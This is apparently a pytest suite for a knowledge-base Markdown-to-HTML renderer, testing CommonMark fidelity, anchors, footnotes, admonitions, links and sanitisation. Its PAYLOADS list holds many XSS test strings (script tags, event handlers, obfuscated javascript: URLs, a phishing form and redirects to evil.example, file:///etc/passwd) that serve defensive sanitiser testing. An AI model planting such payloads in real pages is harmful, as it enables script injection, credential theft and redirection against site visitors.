"""Markdown becomes the HTML that a CommonMark viewer would show, with what pages need, and nothing that harms."""

from __future__ import annotations

import re
from collections import Counter
from html.parser import HTMLParser
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from kb.content import front_matter, outline, raw_html
from kb.content.document import Section, StepList
from kb.content.highlighting import code_block
from kb.content.links import Links
from kb.content.rendering import CLEANER, link_definitions, render, render_fragment, with_former_anchors

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

STRUCTURE = ("ol", "ul", "li", "pre", "table", "h1", "h2", "h3", "h4", "h5", "h6")
HARMLESS_TAGS = set(
    "a abbr b big blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h1 h2 "  # noqa: SIM905
    "h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby s samp small span strike strong sub summary sup "
    "table tbody td tfoot th thead time tr tt u ul var wbr".split()
)
HARMLESS_ATTRIBUTES = set(
    "alt aria-label checked class colspan data-language data-problem datetime decoding disabled height href id loading "  # noqa: SIM905
    "open rel reversed role rowspan scope span src start tabindex title type value width".split()
)
OUR_ID = re.compile(r"(?:fn|fnref\d*):\S+|step-\S+|[^\s:]+")


class Html(HTMLParser):
    """The elements of a page, and its words."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep an element."""
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        """Keep words."""
        self.words.append(data)

    def all(self, tag: str) -> list[dict[str, str]]:
        """The attributes of each element of that name."""
        return [attributes for name, attributes in self.elements if name == tag]

    @property
    def ids(self) -> Counter[str]:
        """How often each id is there."""
        return Counter(attributes["id"] for _, attributes in self.elements if "id" in attributes)

    @property
    def text(self) -> str:
        """What a reader sees, with single spaces."""
        return " ".join("".join(self.words).split())


def page(markdown: str, resolve: Mapping[str, str] | None = None, step_lists: tuple[StepList, ...] = ()) -> str:
    sections = outline.parse(markdown).sections
    return render(markdown, sections=sections, step_lists=step_lists, resolve=resolve)


def assert_harmless(html: str) -> None:
    assert "<!" not in html
    for tag, attributes in Html(html).elements:
        assert tag in HARMLESS_TAGS
        assert set(attributes) <= HARMLESS_ATTRIBUTES, attributes
        if "href" in attributes:
            assert re.match(r"https?://|mailto:|tel:|#|/(?![/\\])", attributes["href"], re.IGNORECASE), attributes
        if "src" in attributes:
            assert re.match(r"/(?![/\\])|data:image/(png|gif|jpeg|webp);", attributes["src"]), attributes
        if tag == "input":
            assert attributes["type"] == "checkbox"
            assert "disabled" in attributes


def structure(html: str) -> Counter[str]:
    return Counter(tag for tag, _ in Html(html).elements if tag in STRUCTURE)


def as_commonmark(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").render(markdown)


PAYLOADS = [
    "<script>alert(1)</script>",
    "text <script src=//evil.example/x.js></script> text",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "text <img src='x' onerror='alert(1)'/> text",
    '<img src="javascript:alert(1)">',
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<img src="/\\evil.example/pixel.png">',
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<p class='admonition steps' id='main'>x</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<input type=text name=q autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#x6a&#x61vascript&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example' onclick='alert(1)'>x</a>",
    "<a href='https://x' target=_blank ping='https://evil.example'>x</a>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--> <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](/guides/../\\evil.example)",
    "[x](/\\evil.example)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x](https://example.org/"onmouseover="alert(1))',
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](/media/x.png)',
    '![x](/media/x.png" onerror="alert(1))',
    "![<script>alert(1)</script>](x.png)",
    "![x](https://evil.example/pixel.png)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    '```" onmouseover="alert(1)\ncode\n```',
    '```python" class="x\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    '# " onmouseover="alert(1)',
    '# x {#y" onclick="alert(1)}',
    "# [x](javascript:alert(1))",
    '> [!NOTE" onclick="alert(1)]\n> x',
    "> [!NOTE] <script>alert(1)</script>\n> x",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '!!! note" onclick="alert(1)\n    x',
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: note',
    ':::image source="javascript:alert(1)" alt-text="x":::',
    ":::image source='x' alt-text=\"<script>alert(1)</script>\":::",
    "[!INCLUDE [x](javascript:alert(1))]",
    "[!VIDEO javascript:alert(1)]",
    "| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 <b>",
    '<a href="&#2;wzxhzdk:0&#3;"><b title="x onclick=alert(1)">',
    "<b <script>alert(1)</script>>",
    "<a title='`\"><img src=x onerror=alert(1)>`'>",
    '<p title="</p><script>alert(1)</script>">x',
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_is_made_harmless(payload: str) -> None:
    for markdown in (payload, f"- item\n\n  {payload}\n", f"> {payload}\n", f"# Title\n\n{payload}\n\nmore\n"):
        assert_harmless(page(markdown))
        assert_harmless(render_fragment(markdown))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_of_the_two_barriers_alone_makes_html_harmless(payload: str) -> None:
    for html in (raw_html.clean(payload, Links({})), CLEANER.clean(payload)):
        parsed = Html(html)
        assert {tag for tag, _ in parsed.elements} <= HARMLESS_TAGS
        for _, attributes in parsed.elements:
            assert set(attributes) <= HARMLESS_ATTRIBUTES
            assert ":" not in re.sub(r"^https?:", "", attributes.get("href", ""))
            assert re.match(r"(?!//)/|$", attributes.get("src", ""))


@pytest.mark.parametrize(
    "address",
    [
        *("", "javascript:alert(1)", "JavaScript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)"),
        *("vbscript:x", "data:text/html,x", "file:///etc/passwd", "x.md", "../x.md", "/exchange/x", "/guides/../x"),
        *("/guides/\\x", "?page=2", "C:\\Users", "about:blank", "blob:x", "view-source:x"),
    ],
)
def test_addresses_that_lead_nowhere_safe_are_none(address: str) -> None:
    assert Links({}).page(address) is None
    assert Links({}).image(address) is None


TOKENS = st.sampled_from(
    [
        *PAYLOADS,
        *"<>\"'`*_[]()!#:&|~^\\/=-+\n\t \x02\x03\0\ré",
        *("\n\n", "    ", "- ", "1. ", "> ", "```", "[^1]", "[^1]: ", "!!! note\n", "| a |\n|---|\n"),
        *("&#106;", "javascript:", "<a href=", "<img src="),
    ]
)


@pytest.mark.slow
@given(st.lists(TOKENS, max_size=12).map("".join) | st.text(max_size=60))
@example("[](/\\)")
@example("![](/media/x.png/\\)")
@settings(deadline=None, max_examples=300)
def test_no_text_becomes_harmful_html(markdown: str) -> None:
    assert_harmless(page(markdown))
    assert_harmless(render_fragment(markdown))


@given(st.lists(TOKENS, max_size=12).map("".join) | st.text(max_size=60))
@settings(deadline=None, max_examples=200)
def test_every_anchor_of_any_text_is_there_exactly_once(markdown: str) -> None:
    body = front_matter_free(markdown)
    sections = outline.parse(body).sections
    ids = Html(render(body, sections=sections)).ids
    assert {section.anchor: ids[section.anchor] for section in sections if section.level} == dict.fromkeys(
        (section.anchor for section in sections if section.level), 1
    )


def front_matter_free(markdown: str) -> str:
    return markdown.replace("\0", "").replace("\r", "\n")


def test_the_title_leaves_only_its_anchor_and_each_section_one_id_with_a_link() -> None:
    html = page("# Title\n\nIntro\n\n## Same\n\n## Same\n\n## Named {#own-name}\n")
    assert Html(html).ids == {"title": 1, "same": 1, "same-1": 1, "own-name": 1}
    assert html.startswith('<span class="title-anchor" id="title"></span>')
    assert (
        '<h2 id="own-name">Named<a aria-label="Link to this section" class="anchor" href="#own-name">#</a></h2>' in html
    )


def test_a_first_heading_that_is_not_the_title_stays() -> None:
    assert Html(page("## First\n\n# Second\n")).ids == {"first": 1, "second": 1}
    sections = outline.parse("# Symptoms\n\nx\n").sections
    assert "<h1" in render("# Symptoms\n\nx\n", sections=sections, title_anchor="")
    assert "<h1" not in render("# Symptoms\n\nx\n", sections=sections, title_anchor="symptoms")


def test_lines_are_those_of_the_file_when_a_head_comes_before_the_body() -> None:
    section = Section("here", "Here", 2, line=7, end_line=8, text="")
    assert '<h2 id="here">' in render("\n## Here\n", sections=[section], first_line=6)


def test_an_anchor_whose_heading_is_not_found_still_leads_to_the_guide() -> None:
    section = Section("gone", "Gone", 2, line=9, end_line=9, text="")
    assert Html(render("Text\n", sections=[section])).ids == {"gone": 1}


def test_headings_inside_lists_and_quotations_are_no_sections() -> None:
    assert Html(page("- # a\n\n> ## b\n\n!!! note\n    ## c\n")).ids == {}


@pytest.mark.parametrize(
    "markdown",
    [
        "Text\n- a\n- b\n",
        "- a\n  - b\n    - c\n",
        "1. a\n   - b\n\n   c\n2. d\n",
        "1) a\n2) b\n",
        "3. a\n4. b\n",
        "- a\n* b\n+ c\n",
        "1. a\n\n   ```sh\n   b\n\n\n   c\n   ```\n\n2. d\n",
        "* a\n\n      code\n",
        "> - a\n>\n>   > - b\n",
        "- a\n\n\n\n- b\n\npara\n    lazy\n",
        "1. a\n\t- b\n\t\t- c\n",
        "| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 |\n",
        "- | a |\n  |---|\n  | `x\\|y` |\n",
        "Title\n=====\n\nOther\n-----\n\n###### Six ######\n\n####### seven\n",
        "#no heading\n\n    code\n\ntext\n    not code\n",
        "<details>\n<summary>x</summary>\n\n- a\n\n</details>\n",
        "* * *\n\n- - a\n",
        "10. a\n11. b\n    1. c\n",
        "~~~\n```\n~~~\n",
        "```\nnever closed\n# no heading\n",
    ],
)
def test_blocks_are_those_that_a_commonmark_viewer_shows(markdown: str) -> None:
    assert structure(render(markdown, sections=[])) == structure(as_commonmark(markdown))


def test_lists_keep_their_numbers_and_their_tightness() -> None:
    html = render("3) a\n4) b\n   - c\n\ntext\n\n1. x\n\n2. y\n", sections=[])
    assert '<ol start="3">\n<li>a</li>\n<li>b<ul>\n<li>c</li>' in html
    assert "<ol>\n<li>\n<p>x</p>\n</li>" in html


def test_code_is_kept_as_it_is_and_coloured_by_classes() -> None:
    html = page("1. do\n\n   ```Bash\n   echo  <b> \\* &amp; *x*\n   \tindented\n\n\n   end\n   ```\n")
    assert 'class="highlight" data-language="Bash"' in html
    assert '<span class="nb">echo</span>' in html
    assert "".join(Html(html).words).strip().endswith("echo  <b> \\* &amp; *x*\n\tindented\n\n\nend")
    assert 'tabindex="0"' in html


@pytest.mark.parametrize("info", ["", "text", "no-such-language", '"><b>', "{.python .numberLines}", "python title=x"])
def test_any_info_string_gives_the_code_back(info: str) -> None:
    assert "".join(Html(code_block("a = '<b>'\n", info)).words) == "a = '<b>'\n"


def test_tables_scroll_by_keyboard_and_align_by_class() -> None:
    html = page("# T\n\n## Codes\n\n| A | B |\n|:--|--:|\n| `a\\|b` | x \\| y |\n")
    assert '<div aria-label="Table: Codes" class="table-scroll" role="region" tabindex="0">\n<table>' in html
    assert '<td class="align-left"><code>a|b</code></td>' in html
    assert '<th class="align-right">B</th>' in html
    assert 'aria-label="Table" class="table-scroll"' in page("| A |\n|---|\n")


@pytest.mark.parametrize("margin", ["", "> [!NOTE]\n> ", "- a\n\n  "])
def test_tables_written_as_html_scroll_as_well(margin: str) -> None:
    inner = "<table><tr><td>c</td></tr></table>"
    table = f'<table><tr><td>a <b title="<table>">b</b></td><td>{inner}</td></tr></table>'
    html = page(f"{margin}{table}\n\n| A | B |\n|---|---|\n")
    assert html.count('class="table-scroll"') == 2
    assert '<div class="table-scroll" tabindex="0" role="region" aria-label="Table"><table>' in html
    assert "</tr></tbody></table></div>" in html
    assert html.count("<div") == html.count("</div>")
    assert '<div class="table-scroll"' in render_fragment(table)


def test_footnotes_lead_there_and_back() -> None:
    html = page(
        "# T\n\nSo[^a] and so[^a].\n\n[^a]: First *line*\n    still\n\n    - second\n[^b]: Other\nlazy\n\nText\n"
    )
    parsed = Html(html)
    assert set(parsed.ids) >= {"fn:a", "fnref:a", "fnref2:a", "fn:b"}
    hrefs = {attributes["href"] for attributes in parsed.all("a")}
    assert {"#fn:a", "#fnref:a", "#fnref2:a"} <= hrefs
    assert "<em>line</em>\nstill" in html
    assert "Other\nlazy" in html
    assert html.index("<p>Text</p>") < html.index('<div class="footnote">')
    assert "no note[^c]" in page("no note[^c]\n")


@pytest.mark.parametrize("kind", ["NOTE", "TIP", "IMPORTANT", "WARNING", "CAUTION"])
def test_github_alerts_are_admonitions(kind: str) -> None:
    html = page(f"> [!{kind}]\n> Take *care*\n>\n> - item\n\n> plain\n")
    assert f'<div class="admonition {kind.lower()}">\n<p class="admonition-title">{kind.capitalize()}</p>' in html
    assert "<p>Take <em>care</em></p>" in html
    assert "<blockquote>\n<p>plain</p>\n</blockquote>" in html


def test_admonitions_have_their_own_title_fold_and_nest() -> None:
    html = page(
        '!!! danger "Data is **lost**"\n    Stop\n\n    1. first\n\n??? tip\n    More\n\n???+ info\n    Open\n\nAfter\n'
    )
    assert '<div class="admonition caution">\n<p class="admonition-title">Data is <strong>lost</strong></p>' in html
    assert "<li>first</li>" in html
    assert '<details class="admonition tip">\n<summary class="admonition-title">Tip</summary>' in html
    assert '<details class="admonition note" open="">' in html
    assert html.endswith("<p>After</p>")
    assert '<p class="admonition-title">Note</p>' in page("> [!unheard]\n> x\n")
    assert '<p class="admonition-title">My title</p>' in page("> [!WARNING] My title\n> x\n")


def test_task_lists_show_what_is_done() -> None:
    html = page("- [ ] a\n- [x] **b**\n- c [x]\n\n1. [X] d\n\n2. e\n\n   [ ] f\n")
    boxes = Html(html).all("input")
    assert ["checked" in box for box in boxes] == [False, True, True]
    assert '<ul class="task-list">\n<li class="task-list-item"><input aria-label="To do"' in html
    assert "c [x]" in html
    assert "[ ] f" in html


def test_the_list_of_steps_can_become_a_checklist() -> None:
    markdown = "1. zero\n\n## Fix\n\n- no step\n\n1. a\n   1. sub\n2. b\n\ntext\n\n3. c\n"
    lists = (StepList("fix", 1, "fix", 0), StepList("fix", 2, "fix", 2), StepList("", 0, "", 0))
    html = page(markdown, step_lists=lists)
    assert [name for name in Html(html).ids if name.startswith("step-")] == [
        "step-guide-1",
        "step-fix-1",
        "step-fix-2",
        "step-fix-3",
    ]
    assert [a for a in Html(html).all("ol") if "class" in a] == [
        {"class": "steps", "data-problem": "guide"},
        {"class": "steps", "data-problem": "fix"},
        {"class": "steps", "data-problem": "fix", "start": "3"},
    ]


def test_a_step_never_takes_the_id_of_a_heading() -> None:
    html = page("1. a\n\n## Step guide 1\n", step_lists=(StepList("", 0, "", 0),))
    assert Html(html).ids == {"step-guide-1": 1}
    assert '<h2 id="step-guide-1">' in html


def test_relative_links_lead_to_pages_or_are_text() -> None:
    resolve = {"../net/time outs.md": "/guides/time-outs/", "x.md": "/guides/x/"}
    html = page(
        "[a](../net/time%20outs.md#dns) [b](x.md) [c](y.md 'T') [d](#here) [e](/contacts/) [f](/exchange/)", resolve
    )
    assert [a["href"] for a in Html(html).all("a")] == ["/guides/time-outs/#dns", "/guides/x/", "#here", "/contacts/"]
    assert [a["title"] for a in Html(html).all("span")] == ["This page is not part of the knowledge base"] * 2
    assert '<span class="missing-link"' in html
    assert Html(html).text == "a b c d e f"


def test_raw_links_follow_the_same_rules() -> None:
    html = page('<a href="x.md" class="k" id="i">a</a> <a href="y.md">b</a> <a name="q">c</a>', {"x.md": "/guides/x/"})
    assert Html(html).all("a") == [
        {"href": "/guides/x/"},
        {"class": "missing-link", "title": "This page is not part of the knowledge base"},
        {},
    ]


def test_links_to_other_sites_do_not_tell_where_they_come_from() -> None:
    html = page(
        "[a](https://a.example/?x=1&y=2 'T') <https://b.example> https://c.example/d_e_f. (http://d.example/(x)) "
    )
    html += page("[p](//e.example/x) [m](mailto:a@b.example) <c@d.example> [t](tel:+123)")
    external = [a for a in Html(html).all("a") if a["href"].startswith("http")]
    assert [a["href"] for a in external] == [
        "https://a.example/?x=1&y=2",
        "https://b.example",
        "https://c.example/d_e_f",
        "http://d.example/(x)",
        "https://e.example/x",
    ]
    assert all(a["rel"] == "noopener noreferrer" for a in external)
    others = [a for a in Html(html).all("a") if a not in external]
    assert [a["href"] for a in others] == ["mailto:a@b.example", "mailto:c@d.example", "tel:+123"]
    assert not any("rel" in a for a in others)


def test_images_are_loaded_from_this_site_only() -> None:
    data = "data:image/png;base64,iVBORw0KGgo="
    html = page(
        f"![a](img/a.png) ![b](https://x.example/b.png) ![Main menu](img/menu.png) ![](img/the-menu_2.png) ![](.) "
        f"![d]({data}) "
        '![e](/media/e.png) <img src="img/a.png" alt="f" width="20" height="2em" style="x"> [![g](https://x.example/g.png)](#g)',
        {"img/a.png": "/media/1.png"},
    )
    images = Html(html).all("img")
    assert [(a["src"], a["alt"]) for a in images] == [
        ("/media/1.png", "a"),
        (data, "d"),
        ("/media/e.png", "e"),
        ("/media/1.png", "f"),
    ]
    assert all(a["loading"] == "lazy" for a in images)
    assert images[-1]["width"] == "20"
    assert "height" not in images[-1]
    assert '<a href="https://x.example/b.png" rel="noopener noreferrer">b</a>' in html
    assert '<a href="#g"><span>g</span></a>' in html
    assert "[Image: Main menu] [Image: the menu 2]" in Html(html).text
    assert "[Image]" not in Html(html).text


def test_forms_of_other_tools_become_readable() -> None:
    html = page(
        "::: moniker range='>=1'\n:::row:::\n\nSee :::image type='icon' source=\"m/go-icon.png\"::: and\n"
        ':::image type="content" source="m/x.png" alt-text="The `menu` <b>":::\n\n'
        "[!INCLUDE [Some note](../includes/n.md)]\n\n[!VIDEO https://v.example/1]\n\n"
        '> [!div class="nextstepaction"]\n> [Next](n.md)\n\n:::row-end:::\n:::\n'
    )
    assert Html(html).text == ("See [Image: go icon] and [Image: The menu <b>] Some note Watch the video Next")
    assert "https://v.example/1" in html


def test_placeholders_that_look_like_tags_are_read() -> None:
    html = page(
        "Run `x` in <namespace> of <vm-name> or <Path To\nx> </My-Tag>, not <br>here<br/>\n\n<Namespace>\n\n</Log>\n"
    )
    text = Html(html).text
    assert text == "Run x in <namespace> of <vm-name> or <Path To x> </My-Tag>, not here <Namespace> </Log>"
    assert html.count("<br>") == 2


def test_raw_html_keeps_its_meaning_and_its_anchors_without_classes_and_styles() -> None:
    html = page(
        '<div id="main" class="steps"><kbd>Ctrl</kbd> <font color=red>red</font><table><tr><td colspan=2 style="x">'
        "&lt;c&gt;&#65;</td></tr></table><ol start=3 reversed><li value=9>x</ol></div>\n\n"
        "<details open>\n<summary>S</summary>\n\n**b**\n\n</details>\n\n<b/>after\n"
    )
    assert Html(html).ids == {"main": 1}
    assert html.count("class") == html.count("table-scroll") == 1
    assert '<div><span id="main"></span><kbd>Ctrl</kbd> red<div class="table-scroll"' in html
    assert '<td colspan="2">&lt;c&gt;A</td>' in html
    assert '<ol start="3" reversed=""><li value="9">x</li></ol>' in html
    assert '<details open="">' in html
    assert "<strong>b</strong>" in html


def test_inline_markup_is_that_of_commonmark() -> None:
    html = page("C:\\Users\\me \\<x\\> \\# CONN_TIMEOUT_X **a*b*c** ~~gone~~ ~~~kept~~~ &copy; a\\\nb  \nc `` `x` ``\n")
    assert "C:\\Users\\me &lt;x&gt; # CONN_TIMEOUT_X <strong>a<em>b</em>c</strong> <del>gone</del> ~~~kept~~~ ©" in html
    assert "a<br>\nb<br>\nc <code>`x`</code>" in html


def test_a_step_can_use_the_links_of_its_guide_and_has_no_ids() -> None:
    definitions = link_definitions("Text\n\n[Help Me]: x.md 'T'\n[^1]: note\n")
    html = render_fragment(
        "See [it][help me] or [help me].[^1]\n\n## Sub\n", {"x.md": "/guides/x/"}, definitions=definitions
    )
    assert html.count('<a href="/guides/x/" title="T">') == 2
    assert Html(html).ids == {}
    assert 'or <a href="/guides/x/" title="T">help me</a>.</p>' in html
    assert render_fragment("[help me]") == "<p>[help me]</p>"


def test_a_text_leaves_nothing_behind_for_the_next() -> None:
    page("# A\n\n[x]: /guides/x/\n[^1]: note\n\nt[^1] <b>raw</b>\n\n```\ncode\n```\n")
    assert page("[x] <i>y</i>") == "<p>[x] <i>y</i></p>"
    assert page("") == ""


@pytest.fixture(scope="module")
def rendered(corpora: Path) -> list[tuple[str, str, outline.Outline, str]]:
    """Name, body, outline and HTML of each guide of the corpora."""
    pages = []
    for path in sorted((corpora / "corpora").rglob("*.md")):
        head = front_matter.split(path.read_text())
        parsed = outline.parse(head.body, head.body_line)
        anchor = parsed.title_anchor or ""
        html = render(head.body, sections=parsed.sections, first_line=head.body_line, title_anchor=anchor)
        pages.append((path.name, head.body, parsed, html))
    return pages


@pytest.mark.corpora
def test_guides_of_others_look_as_in_a_commonmark_viewer(rendered: list[tuple[str, str, outline.Outline, str]]) -> None:
    same = 0
    for _, body, parsed, html in rendered:
        expected = structure(as_commonmark(body))
        headed = [section for section in parsed.sections if section.level]
        if headed and headed[0].anchor == parsed.title_anchor:
            expected["h1"] -= 1
        same += +expected == structure(html)
    share = same / len(rendered)
    print(f"{same} of {len(rendered)} guides look as in a CommonMark viewer: {share:.1%}")  # noqa: T201
    assert share >= 0.97


@pytest.mark.corpora
def test_every_section_of_the_guides_of_others_has_its_anchor_once(
    rendered: list[tuple[str, str, outline.Outline, str]],
) -> None:
    for name, _, parsed, html in rendered:
        ids = Html(html).ids
        assert {s.anchor: ids[s.anchor] for s in parsed.sections if s.level and ids[s.anchor] != 1} == {}, name
        assert ":::" not in Html(html).text, name
        assert_harmless(html)


def test_a_section_is_found_under_former_anchors_and_nothing_else_of_the_page_changes() -> None:
    page = (
        '<p>Say id="one" or <code>&lt;h2 id="one"&gt;</code>:</p>\n'
        '<ul>\n<li></li>\n</ul>\n<h2 class="x" id="one">One&nbsp;a</h2>\n<h2 id="it\'s">Two</h2>\n<h2 id="one">'
    )
    marked = with_former_anchors(page, {"it's": ["was"], "one": ["uno", "<ein>"], "gone": ["x"]})
    marks = '<span id="uno"></span><span id="&lt;ein&gt;"></span>'
    assert marked == page.replace('<h2 class="x"', f'{marks}<h2 class="x"').replace(
        '<h2 id="it', '<span id="was"></span><h2 id="it'
    )
    assert with_former_anchors(page, {"one": []}) == page


def test_anchors_of_html_stay_unless_something_of_the_page_has_that_id() -> None:
    html = page(
        '# T\n\n<a name="old"></a>Text <a id="old">x</a>\n\n## Fix\n\n<div id="fix">y</div>\n\n'
        '<table><tr><td id="cell">z</td></tr></table>\n\n<p id="page_main">p</p> <p id="a b">q</p>\n\n[x](#old)\n'
    )
    assert Html(html).ids == {"t": 1, "old": 1, "fix": 1, "cell": 1}
    assert '<h2 id="fix">' in html
    assert '<td><span id="cell"></span>z</td>' in html
    assert '<span id="old"></span>' not in render_fragment('<a name="old"></a>Text')
